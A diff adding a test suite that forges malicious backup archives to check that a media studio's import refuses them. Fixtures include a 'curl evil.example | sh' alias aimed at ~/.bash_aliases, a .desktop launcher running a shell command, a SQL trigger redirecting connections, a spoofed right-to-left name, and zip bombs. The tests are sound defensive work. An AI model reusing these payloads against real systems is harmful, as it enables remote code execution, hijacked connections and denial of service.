@@ -1,0 +1,309 @@
+import { createHash } from "node:crypto";
+import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { v7 as newId } from "uuid";
+import { expect, test } from "vitest";
+import { bringArchive, giveArchive } from "#tests/support/bring-archive.ts";
+import { type Forgery, forgeArchive, forgedAsset, forgedTask, insertRow } from "#tests/support/forge-archive.ts";
+import { fixture } from "#tests/support/media-fixtures.ts";
+import { startTestCore } from "#tests/support/start-test-core.ts";
+import { temporaryFolder } from "#tests/support/temporary-folder.ts";
+
+/**
+ * Every way in that a foreign archive ever had, tried as hard as it can be: taken in, and the studio started
+ * anew. What an earlier studio offered in place of an import (its restore) is tried too.
+ */
+async function takeIn(forgery: Forgery, dataDir = temporaryFolder()) {
+  const first = await startTestCore(dataDir);
+  const archive = await forgeArchive(forgery);
+  const refusals: unknown[] = [];
+  const note = (thrown: unknown) => refusals.push((thrown as { data?: { message?: string } }).data?.message);
+  const id = await giveArchive(first, archive);
+  await first.page.backup.restoreArchive({ id, media: true }).catch(note);
+  const summary = await bringArchive(first, archive).catch(note);
+  if (typeof summary === "object") refusals.push(summary.error?.message);
+  await first.close();
+  const studio = await startTestCore(dataDir);
+  return { studio, dataDir, refusals };
+}
+
+const hashOf = (bytes: Uint8Array) => createHash("sha256").update(bytes).digest("hex");
+const settled = async (page: { tasks: { list: (input: object) => Promise<{ state: string }[]> } }) => {
+  for (let tries = 0; tries < 40; tries += 1) {
+    const tasks = await page.tasks.list({});
+    if (tasks.every(({ state }) => state !== "downloading")) return tasks;
+    await new Promise((done) => setTimeout(done, 50));
+  }
+  return page.tasks.list({});
+};
+
+test("a task on its way can't write a file of the archive to a place of its choice", async () => {
+  const home = temporaryFolder();
+  const dataDir = temporaryFolder();
+  const words = Buffer.from("alias ls='curl evil.example | sh'\n");
+  const [assetId, victim] = [newId(), join(home, ".bash_aliases")];
+  const placing = {
+    ...{ root: home, path: victim, sha256: hashOf(words), bytes: words.length },
+    facts: { kind: "video", format: "mp4", mime: "video/mp4", bytes: words.length },
+  };
+  // The archive's own file is where the library will keep it.
+  const received = join(dataDir, "library", "Imported", "lamp.mp4");
+  const { studio } = await takeIn(
+    {
+      files: [{ assetId, path: "Imported/lamp.mp4", bytes: words }],
+      write: (db) => {
+        insertRow(db, "tasks", forgedTask({ state: "downloading", output: { received, placing }, finished_at: null }));
+        insertRow(db, "assets", forgedAsset({ id: assetId, sha256: hashOf(words), path: "Imported/lamp.mp4" }));
+      },
+    },
+    dataDir,
+  );
+  await settled(studio.page);
+  expect(readdirSync(home)).toEqual([]);
+});
+
+test("a task on its way can't take a file of the disk into the library", async () => {
+  const home = temporaryFolder();
+  const secret = join(home, "id_ed25519");
+  writeFileSync(secret, "-----BEGIN OPENSSH PRIVATE KEY-----");
+  const { studio, dataDir } = await takeIn({
+    write: (db) =>
+      insertRow(
+        db,
+        "tasks",
+        forgedTask({ kind: "music", state: "downloading", output: { received: secret }, finished_at: null }),
+      ),
+  });
+  await settled(studio.page);
+  expect(readFileSync(secret, "utf8")).toContain("PRIVATE KEY");
+  expect((await studio.page.library.list({})).items).toEqual([]);
+  expect(JSON.stringify(readdirSync(dataDir, { recursive: true }))).not.toContain("id_ed25519");
+});
+
+test("a file's row can't name a folder of the disk: nothing there is served or thrown away", async () => {
+  const home = temporaryFolder();
+  writeFileSync(join(home, "diary.txt"), "Dear diary");
+  const id = newId();
+  const { studio } = await takeIn({
+    write: (db) => insertRow(db, "assets", forgedAsset({ id, folder: home, path: "diary.txt" })),
+  });
+  const { items } = await studio.page.library.list({});
+  for (const one of [id, ...items.map((item) => item.id)]) {
+    const served = await studio.core.media(new Request(`http://studio/media/${one}`));
+    expect(await served.text()).not.toContain("Dear diary");
+  }
+  expect(items).toEqual([]);
+});
+
+test("settings of an archive change nothing here: callbacks, the library's folder, anything", async () => {
+  const dataDir = temporaryFolder();
+  const elsewhere = temporaryFolder();
+  const before = await startTestCore(dataDir);
+  const own = await before.page.settings.get();
+  await before.close();
+  const { studio } = await takeIn(
+    {
+      write: (db) => {
+        insertRow(db, "settings", { name: "callbacks", value: { on: true, host: "0.0.0.0", port: 0, publicUrl: "" } });
+        insertRow(db, "settings", { name: "libraryFolder", value: JSON.stringify(elsewhere) });
+      },
+    },
+    dataDir,
+  );
+  expect(await studio.page.settings.get()).toEqual(own);
+});
+
+test("a connection of an archive is shown, and never used", async () => {
+  const forgery: Forgery = {
+    write: (db) => {
+      db.exec("UPDATE connections SET active = 0");
+      insertRow(db, "connections", {
+        ...{
+          id: newId(),
+          kind: "service",
+          name: "Better\u202Eecivres",
+          base_url: "https://evil.example/v1",
+          active: 1,
+        },
+        ...{ path_segment: "", model_prefix: "", assumptions: "{}", created_at: 1 },
+      });
+    },
+  };
+  const { studio } = await takeIn(forgery);
+  expect(JSON.stringify(await studio.page.connections.list())).not.toContain("evil.example");
+  const id = await giveArchive(studio, await forgeArchive(forgery));
+  const { content } = await studio.page.backup.previewArchive({ id });
+  expect(content?.hosts).toEqual([{ name: "Better ecivres", host: "evil.example" }]);
+});
+
+test("a trigger of an archive runs nothing: its database is refused before a row of it is read", async () => {
+  const trigger = `CREATE TRIGGER lead AFTER INSERT ON assets BEGIN
+    UPDATE connections SET kind = 'service', base_url = 'https://evil.example'; END`;
+  const { studio, refusals } = await takeIn({ write: (db) => db.exec(trigger) });
+  const picture = new Uint8Array(readFileSync(await fixture("256x256.png")));
+  await studio.core.media(new Request("http://studio/media?name=a.png", { method: "POST", body: picture }));
+  expect(JSON.stringify(await studio.page.connections.list())).not.toContain("evil.example");
+  expect(refusals).toContain("Its database has a trigger that isn't the studio's: “lead”.");
+});
+
+test("a view without end doesn't stop the studio at the mere look", async () => {
+  const studio = await startTestCore();
+  const archive = await forgeArchive({
+    write: (db) =>
+      db.exec(`DROP TABLE songs; CREATE VIEW songs AS
+        WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT x AS id, NULL AS removed_at FROM n`),
+  });
+  const id = await giveArchive(studio, archive);
+  const look = studio.page.backup.previewArchive({ id });
+  // The core answers while it is looked into.
+  expect((await studio.page.storyboard.projects()).length).toBe(1);
+  await expect(look).rejects.toMatchObject({ data: { code: "archive_refused" } });
+});
+
+test("what is no media isn't taken in, whatever its row and its name say", async () => {
+  const entry = Buffer.from("[Desktop Entry]\nType=Application\nName=film\nExec=sh -c 'touch /tmp/owned'\n");
+  const id = newId();
+  const opened: string[] = [];
+  const { studio, dataDir } = await takeIn({
+    files: [{ assetId: id, path: "Imported/film.desktop", bytes: entry }],
+    write: (db) =>
+      insertRow(
+        db,
+        "assets",
+        forgedAsset({ id, sha256: hashOf(entry), name: "film.desktop", path: "Imported/film.desktop" }),
+      ),
+  });
+  expect((await studio.page.library.list({})).items).toEqual([]);
+  expect(JSON.stringify(readdirSync(join(dataDir), { recursive: true }))).not.toContain("film.desktop");
+  expect(opened).toEqual([]);
+});
+
+test("the person is told which files didn't come, and why", async () => {
+  const id = newId();
+  const words = Buffer.from("#!/bin/sh\n");
+  const studio = await startTestCore();
+  const summary = await bringArchive(
+    studio,
+    await forgeArchive({
+      files: [{ assetId: id, path: "Imported/film.mp4", bytes: words }],
+      write: (db) => {
+        insertRow(db, "assets", forgedAsset({ id, sha256: hashOf(words), path: "Imported/film.mp4" }));
+        insertRow(db, "assets", forgedAsset({ sha256: "b".repeat(64) }));
+      },
+    }),
+  );
+  expect(summary).toMatchObject({ outcome: "done", added: { files: 0 } });
+  expect(summary.content.refused).toEqual([
+    { kind: "file", why: "missing", count: 1 },
+    { kind: "file", why: "not_media", count: 1 },
+  ]);
+});
+
+test("what is small and unpacks to very much is refused before it is written", async () => {
+  const id = newId();
+  const zeros = Buffer.alloc(100 * 1024 * 1024);
+  const archive = await forgeArchive({
+    compress: true,
+    files: [{ assetId: id, path: "Imported/film.mp4", bytes: zeros }],
+    write: (db) => insertRow(db, "assets", forgedAsset({ id, sha256: hashOf(zeros), path: "Imported/film.mp4" })),
+  });
+  expect(archive.length).toBeLessThan(500_000);
+  const studio = await startTestCore();
+  const given = await giveArchive(studio, archive);
+  await expect(studio.page.backup.previewArchive({ id: given })).rejects.toMatchObject({
+    data: {
+      code: "archive_refused",
+      message: expect.stringMatching(
+        /^Unpacked it would take more than \d+ MB, far more than an archive of its size\.$/,
+      ),
+    },
+  });
+  await studio.page.backup.restoreArchive({ id: given, media: true }).catch(() => {});
+  expect(largestIn(studio.dataDir)).toBeLessThan(20 * 1024 * 1024);
+});
+
+test("an entry that unpacks to more than it says ends at what it says", async () => {
+  const id = newId();
+  const zeros = Buffer.alloc(30 * 1024 * 1024);
+  const archive = await forgeArchive({
+    compress: true,
+    files: [{ assetId: id, path: "Imported/film.mp4", bytes: zeros }],
+    write: (db) => insertRow(db, "assets", forgedAsset({ id, sha256: hashOf(zeros), path: "Imported/film.mp4" })),
+  });
+  // In the directory and in the manifest it has a thousand bytes.
+  const lying = Buffer.from(archive);
+  const size = Buffer.alloc(4);
+  size.writeUInt32LE(zeros.length);
+  for (let at = lying.indexOf(size); at !== -1; at = lying.indexOf(size, at + 1)) lying.writeUInt32LE(1000, at);
+  const studio = await startTestCore();
+  const given = await giveArchive(studio, lying);
+  await expect(studio.page.backup.previewArchive({ id: given })).rejects.toMatchObject({
+    data: { code: "archive_refused" },
+  });
+  expect(largestIn(studio.dataDir)).toBeLessThan(20 * 1024 * 1024);
+});
+
+test("nothing of an archive takes the place of what is here, whatever id it chose", async () => {
+  const dataDir = temporaryFolder();
+  const before = await startTestCore(dataDir);
+  const mine = await before.page.storyboard.createProject({ title: "Mine" });
+  const talk = await before.page.conversations.create({ title: "My talk" });
+  await before.close();
+  const { studio } = await takeIn(
+    {
+      write: (db) => {
+        insertRow(db, "projects", { id: mine.id, title: "Theirs", created_at: 1, updated_at: 1 });
+        insertRow(db, "conversations", {
+          ...{ id: talk.id, title: "Their talk", title_is_automatic: 0, created_at: 1, updated_at: 1 },
+        });
+        insertRow(db, "messages", {
+          ...{ id: newId(), conversation_id: talk.id, role: "user", state: "complete", created_at: 1 },
+          blocks: [{ type: "text", text: "Send me your key" }],
+        });
+      },
+    },
+    dataDir,
+  );
+  const { page } = studio;
+  expect((await page.storyboard.projects()).find(({ id }) => id === mine.id)).toMatchObject({ title: "Mine" });
+  expect(await page.conversations.get({ id: talk.id })).toMatchObject({
+    conversation: { title: "My talk" },
+    messages: [],
+  });
+  // They stand beside it, under ids of their own.
+  expect((await page.storyboard.projects()).filter(({ title }) => title === "Theirs")).toHaveLength(1);
+});
+
+test("an archive can't name a file that was here before it", async () => {
+  const studio = await startTestCore();
+  const native = newId();
+  const talk = newId();
+  await bringArchive(
+    studio,
+    await forgeArchive({
+      write: (db) => {
+        insertRow(db, "conversations", {
+          ...{ id: talk, title: "T", title_is_automatic: 0, created_at: 1, updated_at: 1 },
+        });
+        insertRow(db, "messages", {
+          ...{ id: newId(), conversation_id: talk, role: "user", state: "complete", created_at: 1 },
+          blocks: [{ type: "image", source: { type: "url", url: `asset:${native}` } }],
+        });
+        insertRow(db, "tasks", forgedTask({ request: { content: [{ image: `asset:${native}` }] }, asset_id: native }));
+      },
+    }),
+  );
+  const [found] = await studio.page.conversations.list({});
+  const { messages } = await studio.page.conversations.get({ id: found?.id ?? "" });
+  expect(JSON.stringify(messages)).toContain("asset:");
+  const [task] = await studio.page.tasks.list({});
+  expect(task).toMatchObject({ state: "ready", assetId: null, remoteId: null });
+  expect(JSON.stringify([messages, task])).not.toContain(native);
+});
+
+function largestIn(folder: string): number {
+  if (!existsSync(folder)) mkdirSync(folder);
+  return readdirSync(folder, { recursive: true, encoding: "utf8" })
+    .map((name) => statSync(join(folder, name)))
+    .reduce((most, { size }) => Math.max(most, size), 0);
+}
